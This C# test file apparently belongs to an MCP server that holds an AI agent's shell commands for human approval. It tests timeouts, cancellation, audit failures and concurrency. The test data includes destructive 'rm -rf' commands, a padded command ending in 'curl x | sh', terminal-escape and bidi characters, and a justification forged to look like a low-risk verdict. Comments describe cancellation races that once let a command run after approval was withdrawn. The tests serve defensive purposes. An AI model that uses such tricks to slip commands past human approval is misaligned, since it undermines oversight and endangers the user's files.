using System.Collections.Concurrent;
using System.Text.Json;
using System.Text.Json.Nodes;
using AgentExec.Core.Approval;
using AgentExec.Core.Audit;
using AgentExec.Core.Configuration;
using AgentExec.Core.Execution;
using AgentExec.Core.Policy;
using AgentExec.Tests.Mcp.Support;
using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;

namespace AgentExec.Tests.Mcp;

/// <summary>How the server asks, waits and fails closed: timeouts, disconnects, capabilities, the cache, concurrency.</summary>
public sealed class ApprovalChannelTests
{
    private static readonly TimeSpan Bounded = TimeSpan.FromSeconds(10);

    [Fact]
    public async Task No_answer_within_the_approval_timeout_is_denied_and_the_request_is_cancelled()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(approvalTimeout: TimeSpan.FromMilliseconds(300)));
        var client = server.ConnectRaw();
        await client.InitializeAsync();

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = ShellScenario.DangerousCommand });
        var question = await client.ReadMessageAsync("elicitation/create");
        var cancelled = await client.ReadMessageAsync("notifications/cancelled");
        var response = await client.ReadResponseAsync("call-1");

        Assert.Equal(question["id"]!.ToJsonString(), cancelled["params"]!["requestId"]!.ToJsonString());
        Assert.Equal("no_response", response["result"]!["structuredContent"]!["approval"]!["reason"]!.GetValue<string>());
        Assert.False(scenario.CommandRan);
    }

    [Fact]
    public async Task A_client_that_disconnects_while_asked_gets_nothing_run_and_the_server_stops_promptly()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = ShellScenario.DangerousCommand });
        await client.ReadMessageAsync("elicitation/create");
        client.Disconnect();
        await server.Running.WaitAsync(Bounded);

        Assert.False(scenario.CommandRan);
        var answer = scenario.Audit.Events.Single(e => e.Name == AuditEventNames.Answer);
        Assert.Equal("disconnected", answer.Fields["reason"]!.GetValue<string>());
    }

    [Fact]
    public async Task Command_is_denied_without_a_question_when_the_client_cannot_elicit()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync(capabilities: "{}");

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = ShellScenario.DangerousCommand });
        var response = await client.ReadResponseAsync("call-1");

        Assert.Equal("client_cannot_elicit", response["result"]!["structuredContent"]!["approval"]!["reason"]!.GetValue<string>());
        Assert.False(client.HasSeen(m => m["method"]?.GetValue<string>() == "elicitation/create"));
        Assert.DoesNotContain(AuditEventNames.ElicitationSent, scenario.Audit.Names);
        Assert.False(scenario.CommandRan);
    }

    [Fact]
    public async Task Never_policy_denies_without_asking()
    {
        using var scenario = new ShellScenario();
        var asked = 0;
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(ApprovalPolicy.Never));
        await using var client = await server.ConnectAsync(ElicitingClient.Accepting(() => Interlocked.Increment(ref asked)));

        var result = await client.CallToolAsync("shell", Args(ShellScenario.DangerousCommand));

        Assert.Equal("policy_never", ShellScenario.Field(result.StructuredContent, "approval", "reason"));
        Assert.Equal("policy", ShellScenario.Field(result.StructuredContent, "approval", "source"));
        Assert.Equal(0, asked);
        Assert.False(scenario.CommandRan);
    }

    [Fact]
    public async Task A_forbidden_rule_denies_without_asking_and_shows_its_justification()
    {
        using var scenario = new ShellScenario();
        var rule = new PolicyRule(["rm", "-rf"], RuleDecision.Forbidden, "never delete trees here", RuleOrigin.User);
        var asked = 0;
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(rules: [rule]));
        await using var client = await server.ConnectAsync(ElicitingClient.Accepting(() => Interlocked.Increment(ref asked)));

        var result = await client.CallToolAsync("shell", Args(ShellScenario.DangerousCommand));

        Assert.Equal("rule_forbidden", ShellScenario.Field(result.StructuredContent, "approval", "reason"));
        Assert.Contains("never delete trees here", ShellScenario.Field(result.StructuredContent, "message"), StringComparison.Ordinal);
        Assert.Equal(0, asked);
        Assert.False(scenario.CommandRan);
    }

    [Theory]
    [InlineData("""{}""", "command")]
    [InlineData("""{"command":""}""", "command")]
    [InlineData("""{"command":"   "}""", "command")]
    [InlineData("""{"command":5}""", "command")]
    [InlineData("""{"command":"ls","workdir":"relative/dir"}""", "workdir")]
    [InlineData("""{"command":"ls","workdir":"/nonexistent/agentexec-missing-dir"}""", "workdir")]
    [InlineData("""{"command":"ls","timeout_ms":0}""", "timeout_ms")]
    [InlineData("""{"command":"ls","timeout_ms":3600001}""", "timeout_ms")]
    [InlineData("""{"command":"ls","timeout_ms":1.5}""", "timeout_ms")]
    [InlineData("""{"command":"ls","sandbox_permissions":"root"}""", "sandbox_permissions")]
    [InlineData("""{"command":"ls","colour":"red"}""", "colour")]
    public async Task Invalid_input_fails_to_start_with_a_message_naming_the_field(string arguments, string field)
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();

        await client.CallShellAsync("call-1", JsonNode.Parse(arguments)!.AsObject());
        var response = await client.ReadResponseAsync("call-1");

        var result = response["result"]!;
        Assert.True(result["isError"]!.GetValue<bool>());
        Assert.Equal("failed_to_start", result["structuredContent"]!["status"]!.GetValue<string>());
        Assert.Contains(field + ":", result["structuredContent"]!["message"]!.GetValue<string>(), StringComparison.Ordinal);

        // Audited like every call (SPEC.md), and the result carries the head after its last event.
        Assert.Equal([AuditEventNames.CallReceived, AuditEventNames.Denial], scenario.Audit.Names);
        var denial = scenario.Audit.Events[^1];
        // The log says it in its own words; what was wrong is the same.
        var told = result["structuredContent"]!["message"]!.GetValue<string>();
        Assert.Contains(told[(told.IndexOf(": ", StringComparison.Ordinal) + 2)..], denial.Fields["message"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal("call-1", denial.Fields["call_id"]!.GetValue<string>());
        var head = result["_meta"]!["agentexec/audit"]!;
        Assert.Equal(2, head["seq"]!.GetValue<long>());
    }

    [Fact]
    public async Task An_answer_for_the_session_covers_the_same_request_and_nothing_else()
    {
        using var scenario = new ShellScenario();
        var asked = 0;
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        await using var client = await server.ConnectAsync(ElicitingClient.Accepting(() => Interlocked.Increment(ref asked), """{"scope":"session"}"""));
        const string Command = "rm -rf gone-already";

        var first = await client.CallToolAsync("shell", Args(Command));
        var second = await client.CallToolAsync("shell", Args(Command));
        var elsewhere = await client.CallToolAsync("shell", Args(Command, workdir: scenario.Victim));

        Assert.Equal("approved_for_session", ShellScenario.Field(first.StructuredContent, "approval", "decision"));
        Assert.Equal("session", ShellScenario.Field(second.StructuredContent, "approval", "source"));
        Assert.Equal("session_cache", ShellScenario.Field(second.StructuredContent, "approval", "reason"));
        Assert.Equal("user", ShellScenario.Field(elsewhere.StructuredContent, "approval", "source"));
        Assert.Equal(2, asked);
    }

    [Fact]
    public async Task Eight_waiting_calls_answered_out_of_order_each_get_their_own_answer()
    {
        using var scenario = new ShellScenario();
        var waiting = new ConcurrentDictionary<string, TaskCompletionSource<ElicitResult>>();
        var allAsked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        await using var client = await server.ConnectAsync(ElicitingClient.Handling(request =>
        {
            var command = request.Meta!["agentexec/approval"]!["command"]!.GetValue<string>();
            var answer = waiting.GetOrAdd(command, _ => new TaskCompletionSource<ElicitResult>(TaskCreationOptions.RunContinuationsAsynchronously));
            if (waiting.Count == 8)
            {
                allAsked.TrySetResult();
            }

            return new ValueTask<ElicitResult>(answer.Task);
        }));
        var dirs = Enumerable.Range(0, 8).Select(i => Directory.CreateDirectory(Path.Combine(scenario.Workspace, $"d{i}")).FullName).ToArray();

        var calls = dirs.Select(d => client.CallToolAsync("shell", Args($"rm -rf {Path.GetFileName(d)}")).AsTask()).ToArray();
        await allAsked.Task.WaitAsync(Bounded);
        for (var i = 7; i >= 0; i--)
        {
            waiting[$"rm -rf d{i}"].SetResult(new ElicitResult { Action = i % 2 == 0 ? "accept" : "decline" });
        }

        var results = await Task.WhenAll(calls).WaitAsync(Bounded);

        for (var i = 0; i < 8; i++)
        {
            var approved = i % 2 == 0;
            Assert.Equal(approved ? "approved" : "denied", ShellScenario.Field(results[i].StructuredContent, "approval", "decision"));
            Assert.Equal(approved, !Directory.Exists(dirs[i]));
        }
    }

    [Fact]
    public async Task A_call_beyond_the_pending_question_limit_is_denied()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(pending: new PendingQuestionLimit(1)));

        var second = await ElicitingClient.CallWhileAQuestionWaitsAsync(server, Bounded);

        Assert.Equal("too_many_pending", ShellScenario.Field(second.StructuredContent, "approval", "reason"));
    }

    [Fact]
    public async Task Progress_is_reported_while_a_human_decides()
    {
        using var scenario = new ShellScenario();
        var clock = new ManualTimeProvider();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(), clock);
        var client = server.ConnectRaw();
        await client.InitializeAsync("2025-11-25");

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = ShellScenario.DangerousCommand }, progressToken: "tok-1");
        var question = await client.ReadMessageAsync("elicitation/create");
        clock.Advance(TimeSpan.FromSeconds(10));
        var progress = await client.ReadMessageAsync("notifications/progress");
        await client.AnswerAsync(question, """{"action":"decline"}""");
        await client.ReadResponseAsync("call-1");

        Assert.Equal("tok-1", progress["params"]!["progressToken"]!.GetValue<string>());
    }

    [Fact]
    public async Task A_call_cancelled_while_waiting_for_approval_never_runs()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = ShellScenario.DangerousCommand });
        var question = await client.ReadMessageAsync("elicitation/create");
        await client.SendAsync("""{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":"call-1","reason":"user"}}""");
        await client.ReadMessageAsync("notifications/cancelled");
        await client.AnswerAsync(question, """{"action":"accept"}""");
        await scenario.Audit.WhenRecorded(AuditEventNames.Denial).WaitAsync(Bounded);

        Assert.False(scenario.CommandRan);
        Assert.Equal("call_cancelled", scenario.Audit.Events.Single(e => e.Name == AuditEventNames.Answer).Fields["reason"]!.GetValue<string>());
    }

    [Fact]
    public async Task A_cancellation_sent_before_the_approval_wins_however_the_two_are_handled()
    {
        // Found by an attack: a notifications/cancelled for the call and an accept that followed it on the wire are
        // handled on two tasks, and when the answer's task ran first the command ran (5 calls of 20 over stdio). The
        // order that counts is the order of arrival.
        const int Calls = 30;
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();
        var victims = Enumerable.Range(0, Calls).Select(i => Directory.CreateDirectory(Path.Combine(scenario.Workspace, $"victim{i}")).FullName).ToArray();

        for (var i = 0; i < Calls; i++)
        {
            await client.CallShellAsync($"call-{i}", new JsonObject { ["command"] = $"rm -rf victim{i}" });
            var question = await client.ReadMessageAsync("elicitation/create");
            var cancelled = new JsonObject
            {
                ["jsonrpc"] = "2.0",
                ["method"] = "notifications/cancelled",
                ["params"] = new JsonObject { ["requestId"] = $"call-{i}", ["reason"] = "user" },
            };
            var accepted = new JsonObject { ["jsonrpc"] = "2.0", ["id"] = question["id"]!.DeepClone(), ["result"] = new JsonObject { ["action"] = "accept" } };

            // One write, the cancellation first.
            await client.SendAsync(cancelled.ToJsonString() + "\n" + accepted.ToJsonString());
        }

        using var deadline = new CancellationTokenSource(Bounded);
        while (scenario.Audit.Events.Count(e => e.Name == AuditEventNames.Answer) < Calls)
        {
            await Task.Delay(20, deadline.Token);
        }

        Assert.All(victims, victim => Assert.True(Directory.Exists(victim), $"{victim} was removed after its call was cancelled"));
        Assert.All(
            scenario.Audit.Events.Where(e => e.Name == AuditEventNames.Answer),
            answer => Assert.Equal("call_cancelled", answer.Fields["reason"]!.GetValue<string>()));
    }

    [Fact]
    public async Task A_cancellation_naming_its_request_twice_cancels_the_call_and_the_session_reads_on()
    {
        // Found by an attack: {"requestId":X,"requestId":X} made the transport's reader throw (a name given twice), which
        // stopped the session reading the client: no later message was handled and the server no longer ended at the end
        // of its input.
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();
        var victim = Directory.CreateDirectory(Path.Combine(scenario.Workspace, "victim")).FullName;

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = "rm -rf victim" });
        var question = await client.ReadMessageAsync("elicitation/create");
        var accepted = new JsonObject { ["jsonrpc"] = "2.0", ["id"] = question["id"]!.DeepClone(), ["result"] = new JsonObject { ["action"] = "accept" } };
        await client.SendAsync("""{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":"call-1","requestId":"call-1"}}""" + "\n" + accepted.ToJsonString());

        using var deadline = new CancellationTokenSource(Bounded);
        while (!scenario.Audit.Events.Any(e => e.Name == AuditEventNames.Answer))
        {
            await Task.Delay(20, deadline.Token);
        }

        Assert.True(Directory.Exists(victim), "the command ran after its call was cancelled");
        Assert.Equal("call_cancelled", scenario.Audit.Events.Single(e => e.Name == AuditEventNames.Answer).Fields["reason"]!.GetValue<string>());

        // And the session still reads: a later call gets its result.
        await client.CallShellAsync("call-2", new JsonObject { ["command"] = "echo still-reading" });
        var result = await client.ReadResponseAsync("call-2").WaitAsync(Bounded);
        Assert.Contains("still-reading", result.ToJsonString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_cancellation_reaches_a_call_that_reused_the_id_of_one_already_answered()
    {
        // Found by an attack: two calls with one id shared the entry of the cancellations read, and the first one's
        // response removed it, so a cancellation of the second was no longer read first, and the accept that followed it
        // on the wire ran the command.
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();
        var victim = Directory.CreateDirectory(Path.Combine(scenario.Workspace, "victim")).FullName;

        await client.CallShellAsync("reused", new JsonObject { ["command"] = "sleep 1" });
        await client.CallShellAsync("reused", new JsonObject { ["command"] = "rm -rf victim" });
        var question = await client.ReadMessageAsync("elicitation/create");
        await client.ReadResponseAsync("reused").WaitAsync(Bounded);
        var cancelled = new JsonObject
        {
            ["jsonrpc"] = "2.0",
            ["method"] = "notifications/cancelled",
            ["params"] = new JsonObject { ["requestId"] = "reused" },
        };
        var accepted = new JsonObject { ["jsonrpc"] = "2.0", ["id"] = question["id"]!.DeepClone(), ["result"] = new JsonObject { ["action"] = "accept" } };
        await client.SendAsync(cancelled.ToJsonString() + "\n" + accepted.ToJsonString());

        using var deadline = new CancellationTokenSource(Bounded);
        while (!scenario.Audit.Events.Any(e => e.Name == AuditEventNames.Answer))
        {
            await Task.Delay(20, deadline.Token);
        }

        Assert.True(Directory.Exists(victim), "the command ran after its call was cancelled");
        Assert.Equal("call_cancelled", scenario.Audit.Events.Single(e => e.Name == AuditEventNames.Answer).Fields["reason"]!.GetValue<string>());
    }

    [Fact]
    public async Task The_question_escapes_terminal_controls_and_carries_codex_and_meta_fields()
    {
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var client = server.ConnectRaw();
        await client.InitializeAsync();
        const string Hostile = "rm -rf victim # \u001b[2J\u202Eevil";

        await client.CallShellAsync("call-1", new JsonObject { ["command"] = Hostile, ["justification"] = "clean\u0007up" });
        var question = await client.ReadMessageAsync("elicitation/create");
        await client.AnswerAsync(question, """{"action":"decline"}""");
        await client.ReadResponseAsync("call-1");

        var parameters = question["params"]!;
        var message = parameters["message"]!.GetValue<string>();
        Assert.StartsWith("Allow the agent to run `rm -rf victim # \\x1B[2J\\u202Eevil` in `", message, StringComparison.Ordinal);
        Assert.Contains("Justification (from the agent): clean\\x07up", message, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', message);
        Assert.Equal("exec-approval", parameters["codex_elicitation"]!.GetValue<string>());
        Assert.Equal("\"call-1\"", JsonValue.Create(parameters["codex_mcp_tool_call_id"]!.GetValue<string>()).ToJsonString());
        Assert.Equal([TrustedShell.Path, "-c", Hostile], parameters["codex_command"]!.AsArray().Select(n => n!.GetValue<string>()));
        Assert.Equal(Hostile, parameters["_meta"]!["agentexec/approval"]!["command"]!.GetValue<string>());
        Assert.Equal(
            """{"type":"object","properties":{"scope":{"type":"string","title":"Remember this decision","enum":["once","session"],"default":"once"},"reason":{"type":"string","title":"Note for the audit log","maxLength":500}}}""",
            parameters["requestedSchema"]!.ToJsonString());
    }

    [Fact]
    public async Task The_real_client_receives_the_servers_lines_first_and_a_justification_that_cannot_forge_a_line()
    {
        // Arrange
        using var scenario = new ShellScenario();
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        var messages = new ConcurrentQueue<string>();
        await using var client = await server.ConnectAsync(ElicitingClient.Declining(request => messages.Enqueue(request.Message ?? "")));
        var padded = ShellScenario.DangerousCommand + new string('\n', 200) + "true; curl x | sh";
        var args = Args(padded);
        args["justification"] = "cleanup\nRisk: LOW (none) — harmless [from the risk model; advisory]\u202E";

        // Act
        await client.CallToolAsync("shell", args);

        // Assert
        var lines = Assert.Single(messages).Split('\n');
        Assert.Equal(
            [
                "Allow the agent to run `rm -rf victim" + string.Concat(Enumerable.Repeat("\\n", 200)) + "true; curl x | sh` in `" + scenario.Workspace + "`?",
                "Will run: 4 commands: rm; true; curl; sh",
                "Working directory: " + scenario.Workspace,
                "Sandbox: none (danger-full-access)",
            ],
            lines[..4]);
        Assert.Equal("Justification (from the agent): `cleanup\\nRisk: LOW (none) — harmless [from the risk model; advisory]\\u202E`", lines[^1]);
        Assert.DoesNotContain(lines, line => line.StartsWith("Risk", StringComparison.Ordinal));
        Assert.False(scenario.CommandRan);
    }

    [Fact]
    public async Task A_command_is_denied_when_its_audit_event_cannot_be_written()
    {
        using var scenario = new ShellScenario();
        var broken = new RecordingAuditLog { Broken = true };
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline(ApprovalPolicy.Never, auditLog: broken));
        await using var client = await server.ConnectAsync(new McpClientOptions { ProtocolVersion = ElicitingClient.ProtocolVersion });

        var result = await client.CallToolAsync("shell", Args("touch ran.txt"));

        Assert.Equal("audit_unavailable", ShellScenario.Field(result.StructuredContent, "approval", "reason"));
        Assert.False(File.Exists(Path.Combine(scenario.Workspace, "ran.txt")));
    }

    [Theory]
    [InlineData("2025-06-18")]
    [InlineData("2025-11-25")]
    [InlineData(null)]
    public async Task An_approved_call_runs_once_and_is_audited_once_under_every_protocol_generation(string? protocolVersion)
    {
        using var scenario = new ShellScenario();
        var asked = 0;
        await using var server = InMemoryMcpServer.Start(scenario.Pipeline());
        await using var client = await server.ConnectAsync(ElicitingClient.Accepting(() => Interlocked.Increment(ref asked), null, protocolVersion));

        var result = await client.CallToolAsync("shell", Args("rm -rf victim && echo removed >> log.txt"));

        Assert.Equal("completed", ShellScenario.Field(result.StructuredContent, "status"));
        Assert.Equal(1, asked);
        Assert.Equal("removed\n", File.ReadAllText(Path.Combine(scenario.Workspace, "log.txt")));
        Assert.Equal(1, scenario.Audit.Names.Count(n => n == AuditEventNames.CallReceived));
        Assert.Equal(1, scenario.Audit.Names.Count(n => n == AuditEventNames.ExecutionStarted));
        Assert.NotNull(result.Meta?["agentexec/audit"]?["hash"]);
    }

    private static Dictionary<string, object?> Args(string command, string? workdir = null)
    {
        var args = new Dictionary<string, object?> { ["command"] = command };
        if (workdir is not null)
        {
            args["workdir"] = workdir;
        }

        return args;
    }
}
